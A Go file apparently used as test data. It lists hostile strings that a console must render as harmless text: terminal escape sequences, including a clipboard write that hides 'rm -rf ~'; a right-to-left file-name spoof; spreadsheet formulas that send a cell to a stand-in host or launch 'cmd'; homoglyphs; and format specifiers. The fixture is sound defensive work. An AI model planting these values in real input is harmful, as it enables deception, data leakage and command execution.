package sample

import "strings"

// hostileTexts are what somebody could write into a free text to fool whoever
// lists it, and what merely looks unusual. A console has to show all of it as
// text, in one line, and nothing else may happen.
func hostileTexts() []string {
	return []string{
		"東京の夜間バックアップ 第三世代",
		"\U0001F468\u200D\U0001F469\u200D\U0001F467 family plan \U0001F680\U0001F3F3\uFE0F\u200D\U0001F308",
		"\x1b[2J\x1b[H\x1b[31mALL TOKENS REVOKED\x1b[0m",
		"\x1b]52;c;cm0gLXJmIH4=\x07paste me",
		"\x1b]0;root@prod\x07\x1b[?1049l title and screen",
		"مرحبا بالعالم \u202Egnp.exe\u202C",
		"re\u0301sume\u0301 Z\u0310\u0351\u0300a\u0315\u031Bl\u0321\u0353g\u0334o\u0338",
		"invoice\rpaid   \b\b\b\b\bvoid",
		"=HYPERLINK(\"http://odd.example/\"&A1,\"click\")",
		"line one\nline two\tand a tab",
		"\u009b31mC1 red\u009b0m \u0090q\u009c",
		"аdmin (with a Cyrillic а)",
		"admin\u200B\u2060\uFEFF",
		strings.Repeat("a very long description that does not end ", 24),
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\U000E0041\U000E0042 tags \u2066isolate\u2069",
		"🇩🇪 flags 🏴󠁧󠁢󠁳󠁣󠁴󠁿 and skin 👍🏽",
		"%s%n%x \\u001b[31m not an escape",
	}
}
